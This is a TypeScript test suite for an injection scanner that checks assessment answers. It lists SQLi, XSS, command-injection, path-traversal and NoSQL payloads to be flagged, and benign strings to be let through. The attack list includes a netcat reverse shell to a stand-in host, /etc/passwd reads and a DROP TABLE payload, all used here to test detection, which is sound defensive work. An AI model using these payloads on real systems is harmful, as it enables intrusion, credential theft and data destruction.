import { assert } from '../helpers/counted-assert';
import { engineTextScanner, safeTextScanner } from '../../lib/detection/assessment-text-scanner';

const scan = engineTextScanner();

const ATTACKS: [string, string][] = [
  ["' OR '1'='1", 'sqli'],
  ["admin'--", 'sqli'],
  ["1' UNION SELECT username, password FROM users--", 'sqli'],
  ["'; DROP TABLE users; --", 'sqli'],
  ["1' AND SLEEP(5)#", 'sqli'],
  ["x') OR ('a'='a", 'sqli'],
  ["1' ORDER BY 3--", 'sqli'],
  ['<script>alert(1)</script>', 'xss'],
  ['<img src=x onerror=alert(1)>', 'xss'],
  ['<a href="javascript:alert(1)">x</a>', 'xss'],
  ['%3Cscript%3Ealert(1)%3C%2Fscript%3E', 'xss'],
  ['; cat /etc/passwd', 'cmdi'],
  ['$(whoami)', 'cmdi'],
  ['`id`', 'cmdi'],
  ['| nc evil.example 4444 -e /bin/sh', 'cmdi'],
  ['../../../../etc/passwd', 'path'],
  ['..\\..\\windows\\win.ini', 'path'],
  ['%2e%2e%2f%2e%2e%2fetc%2fpasswd', 'path'],
  ['{"$ne": null}', 'nosqli'],
  ['[$gt]=', 'nosqli'],
];

const BENIGN = [
  "O'Brien",
  "Seán O'Brien-D'Arcy",
  'I would select a plan with more storage.',
  'Please drop me a line.',
  'SELECT name FROM employees is the first query we learned.',
  'for (let i = 0; i < n; i++) { total += a[i]; }',
  'if (a < b && b > c) return a;',
  'Use <b>bold</b> for headings.',
  "Rock 'n' roll; jazz & blues.",
  'I rate it 10/10 -- really.',
  "He said 'hello' -- and left.",
  'Email me at first.last@example.com; thanks!',
  'I like cats; cat videos are fun.',
  'I know javascript: it is fun.',
  'See ../README for details.',
  'C:\\Users\\me\\report.docx',
  'My rank is #1, said the "top" student',
  '',
];

describe('detection/assessment-text-scanner (the injection engine through the seam)', () => {
  for (const [payload, kind] of ATTACKS) {
    it(`flags ${kind}: ${payload}`, () => {
      const r = scan(payload);
      assert.equal(r.attack, true);
      assert.ok(r.kinds.includes(kind), `kinds ${JSON.stringify(r.kinds)}`);
      assert.ok(r.score > 0);
      // After a word, a backtick span reads as Markdown inline code, which the engine lets through.
      if (!payload.startsWith('`')) assert.equal(scan(`Nice quiz ${payload}`).attack, true);
    });
  }

  it('in an answer, formatting markup is not an attack but markup that can run or load something is; a bare backtick command is', () => {
    assert.equal(scan('Use <b>bold</b> for headings.').attack, false);
    assert.equal(scan('<p>My answer:</p><ul><li>first</li></ul>').attack, false);
    assert.equal(scan('<b onmouseover=alert(1)>bold</b>').attack, true);
    assert.equal(scan('<div style="background:url(javascript:alert(1))">x</div>').attack, true);
    assert.equal(scan('`id`').attack, true);
    assert.equal(scan('Nice quiz `id`').attack, false, 'Markdown inline code in prose is not a command');
  });
  for (const text of BENIGN) {
    it(`lets through: ${JSON.stringify(text)}`, () => {
      const r = scan(text);
      assert.equal(r.attack, false, JSON.stringify(r));
      assert.deepEqual(r.kinds, []);
    });
  }

  it('is bounded on long and hostile input', () => {
    const long = `${"'".repeat(50000)}${' or '.repeat(20000)}`;
    const started = process.hrtime.bigint();
    scan(long);
    scan('%'.repeat(100000));
    const ms = Number(process.hrtime.bigint() - started) / 1e6;
    assert.ok(ms < 1000, `took ${ms} ms`);
  });

  it('a throwing or malformed scanner becomes "no attack" and reports the error', () => {
    const errors: unknown[] = [];
    const boom = safeTextScanner(() => {
      throw new Error('engine down');
    }, (e) => errors.push(e));
    assert.deepEqual(boom('x'), { attack: false, kinds: [], score: 0 });
    const bad = safeTextScanner(() => ({ nope: true }) as never, (e) => errors.push(e));
    assert.equal(bad('x').attack, false);
    assert.equal(errors.length, 2);
    const ok = safeTextScanner(() => ({ attack: true, kinds: ['sqli'], score: 3, findings: [] }) as never);
    assert.deepEqual(ok('x'), { attack: true, kinds: ['sqli'], score: 3 });
  });
});
